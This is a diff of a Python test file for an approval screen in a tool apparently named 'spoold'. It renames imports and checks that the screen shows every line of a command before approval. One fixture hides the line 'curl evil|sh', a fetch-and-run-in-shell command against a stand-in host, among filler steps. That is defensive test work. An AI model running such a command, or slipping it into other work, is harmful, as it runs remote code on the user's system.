@@ -6,9 +6,9 @@ from typing import Any
 
 import pytest
 
-from spoold.client.questions import Question, Shown
-from spoold.faces.top.keys import ACTIONS, KEYS
-from spoold.pictures import work
+from spoold.client.read.questions import Question, Shown
+from spoold.faces.top.views import ACTIONS, KEYS
+from spoold.pictures import task_description
 from spoold.protocol.errors import SpoolError
 from tests.support.said import read_later
 from tests.support.view import AT, PretendedView
@@ -123,7 +123,7 @@ def test_an_approval_shows_all_that_would_run_and_is_of_that() -> None:
                 "make test  # quick check\ncurl evil|sh\n" + "\n".join(f"step {n}" for n in range(90)) + "\nlast"
             )
             seen.spool.shows["job-000002"] = Shown(
-                "job-000002", "5" * 64, work.parts_of({"command": command}), asks=True
+                "job-000002", "5" * 64, task_description.parts_of({"command": command}), asks=True
             )
             await seen.press("a")
             await seen.shows(
@@ -138,15 +138,17 @@ def test_an_approval_shows_all_that_would_run_and_is_of_that() -> None:
             named = {"said": None, "question": "", "seen": "5" * 64, **WHY}
             assert seen.spool.calls == [("approve", ("job-000002", None), named)]
             seen.spool.shows["job-000002"] = Shown(
-                "job-000002", "6" * 64, work.parts_of({"command": "true"}), asks=True
+                "job-000002", "6" * 64, task_description.parts_of({"command": "true"}), asks=True
             )
             await seen.press("a")
             await seen.shows("command: true", "It runs what stands above, 1 line.")
             await seen.press("escape")
             content, said = read_later()
-            seen.spool.shows["job-000002"] = Shown("job-000002", "7" * 64, work.parts_of(content), asks=True)
+            seen.spool.shows["job-000002"] = Shown(
+                "job-000002", "7" * 64, task_description.parts_of(content), asks=True
+            )
             await seen.press("a")
-            await seen.shows(f"{work.READ} (2 lines)", *(f"| {line}" for line in said))
+            await seen.shows(f"{task_description.READ} (2 lines)", *(f"| {line}" for line in said))
 
     run(test)
 
